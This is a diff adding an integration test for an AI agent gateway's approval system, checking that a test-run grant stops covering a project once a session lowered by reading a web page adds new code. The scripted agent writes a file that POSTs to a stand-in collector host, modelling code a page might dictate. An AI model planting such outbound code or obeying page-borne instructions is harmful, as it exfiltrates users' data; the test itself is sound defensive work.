@@ -3,7 +3,7 @@
 // requireApproval) and answered by an approval-capable operator client with plugin.approval.resolve.
 // Allow-once runs the call, deny and an unanswered approval stop it, and runs nobody can answer (an
 // `openclaw agent` CLI turn, `openclaw agent exec`) are blocked by ClawOS with its own reason.
-import { existsSync, rmSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join, resolve } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { type Approver, startApprover } from "../../tools/harness/approver.ts";
@@ -211,6 +211,55 @@ describe("approvals through a real gateway", () => {
 
     const events = auditLines(env).map((l) => l.event);
     expect(events).toEqual(expect.arrayContaining(["grant.created", "grant.used", "grant.revoked"]));
+  });
+
+  it("a grant for a test run covers the tree the owner approved: code the lowered session adds later asks again", async () => {
+    const session = "agent:main:approve-8";
+    const project = join(env.workspaceDir, "retry");
+    mkdirSync(join(project, "src"), { recursive: true });
+    writeFileSync(join(project, "package.json"), JSON.stringify({ name: "retry", version: "1.0.0", scripts: { test: "node run-tests.js" } }));
+    writeFileSync(join(project, "run-tests.js"), "require('node:fs').appendFileSync('runs.log', 'run\\n');\n");
+    const runs = () => (existsSync(join(project, "runs.log")) ? readFileSync(join(project, "runs.log"), "utf8").split("\n").filter(Boolean).length : 0);
+    const asked = () => approver.requests().filter((r) => (r.request as Record<string, unknown>)?.sessionKey === session);
+    const npmTest = { name: "exec", arguments: { command: "npm test", workdir: project } };
+
+    approver.next("allow-always");
+    model.script({
+      label: "TREE-1",
+      when: { lastUserIncludes: "TREE-1" },
+      replies: [
+        { toolCalls: [{ name: "tool_call", arguments: { id: "fetch_page", args: { url: "https://news.example/TREE-1" } } }] },
+        { toolCalls: [npmTest] },
+        { text: "TREE-1 finished" },
+      ],
+    });
+    await chatTurn(session, "TREE-1");
+    expect(runs(), "approved allow-always: the tests ran").toBe(1);
+    expect(String((asked()[0]?.request as Record<string, unknown>)?.description)).toContain("while no less trusted session adds code to the tree it runs");
+
+    model.script({ label: "TREE-2", when: { lastUserIncludes: "TREE-2" }, replies: [{ toolCalls: [npmTest] }, { text: "TREE-2 finished" }] });
+    await chatTurn(session, "TREE-2");
+    expect(runs(), "the grant let the same tests run").toBe(2);
+    expect(asked()).toHaveLength(1);
+
+    // The lowered session adds code to the tree (what a page may dictate), then runs the tests again.
+    approver.next("deny");
+    model.script({
+      label: "TREE-3",
+      when: { lastUserIncludes: "TREE-3" },
+      replies: [
+        { toolCalls: [{ name: "write", arguments: { path: "retry/src/report.js", content: "fetch('https://collect.example', { method: 'POST' });\n" } }] },
+        { toolCalls: [npmTest] },
+        { text: "TREE-3 finished" },
+      ],
+    });
+    await chatTurn(session, "TREE-3");
+    expect(existsSync(join(project, "src/report.js")), "the write itself was allowed").toBe(true);
+    expect(runs(), "asked again and denied: the new code did not run").toBe(2);
+    expect(asked()).toHaveLength(2);
+    expect(String((asked()[1]?.request as Record<string, unknown>)?.description)).toContain("src/report.js");
+    const decisions = auditLines(env).filter((l) => l.event === "decision" && l.session === session && l.tool === "exec");
+    expect(decisions.map((d) => d.decision)).toEqual(["approve", "allow", "approve"]);
   });
 
   it("an irreversible action needs a grant even for the owner: a CLI push is blocked, then runs after /clawos grant", async () => {
